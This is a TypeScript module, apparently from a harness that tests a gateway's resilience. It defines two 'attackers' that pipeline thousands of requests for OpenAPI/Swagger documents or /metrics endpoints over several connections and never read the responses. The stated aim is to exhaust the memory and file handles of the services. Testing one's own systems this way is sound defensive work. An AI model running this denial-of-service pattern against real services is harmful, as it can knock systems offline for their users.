import type { AttackClient } from '../attack-client.js';
import type { Attacker } from '../attacker.js';
import { closeAll, requestsFor, sendUnread } from '../../raw-http.js';

const CONNECTIONS = 6;
/** About 400 kB over all connections. */
const REQUESTS = 1_500;
const HOLD_MS = 4_000;
const PATHS = ['/openapi.json', '/docs/swagger-ui-bundle.js', '/docs/swagger-ui-init.js'];

/** Asks for `path` many times ahead over some connections and reads nothing of it. */
async function leaveUnread(url: string, path: string, client: AttackClient): Promise<void> {
  const sockets = await sendUnread(url, client.from, CONNECTIONS, requestsFor(path, REQUESTS));
  try {
    await client.pause(HOLD_MS);
    for (const { readableLength } of sockets) {
      client.answers.note(readableLength > 0 ? 'some of a response' : 'no response');
    }
  } finally {
    closeAll(sockets);
  }
}

/** Asks for public documents without reading them. */
export const leaveDocumentsUnread: Attacker = {
  name: 'leave-documents-unread',
  aim: 'use up the memory and the files of the gateway without a token',
  async run({ gatewayUrl }, client) {
    let turn = 0;
    await client.repeat(500, () => leaveUnread(gatewayUrl, PATHS[turn++ % PATHS.length]!, client));
  },
};

/** Asks for metrics without reading them, from inside the network. */
export const leaveMetricsUnread: Attacker = {
  name: 'leave-metrics-unread',
  aim: 'use up the memory of every service that serves metrics',
  async run({ metricsUrls }, client) {
    let turn = 0;
    await client.repeat(500, () =>
      leaveUnread(metricsUrls[turn++ % metricsUrls.length]!, '/metrics', client),
    );
  },
};
